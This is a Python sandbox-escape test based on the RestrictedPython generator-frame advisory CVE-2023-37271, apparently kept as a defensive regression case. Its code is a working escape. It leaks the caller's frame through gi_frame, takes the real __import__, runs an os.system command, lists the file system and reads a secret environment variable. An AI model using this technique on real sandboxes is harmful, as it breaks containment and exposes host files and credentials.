"""A generator that reads its own frame and leaks the caller's builtins.

Source: RestrictedPython advisory CVE-2023-37271 (generator frames), in the
form of its regression test tests/test_generator_escape.py (test_1): a
generator stored in a global reads g.gi_frame.f_back.f_back while running and
yields it; f_builtins of that frame holds the real import hook.
Tries: import os through the leaked frame's builtins, list the file system,
write the canary file and read the secrets.
"""

# escape-test: {"stage": "gate", "kind": ["compile"]}

g = None
leak = None


def walk():
    global g, leak
    leak = g.gi_frame.f_back.f_back
    yield leak


def rp_generator_frame_send() -> dict:
    global g
    g = walk()
    g.send(None)
    system = leak.f_builtins.get("__import__")("os")
    system.system("echo escaped > {{CANARY}}")
    return {"listing": system.listdir("/"), "env": system.environ.get("TOOLKILN_CANARY_SECRET")}
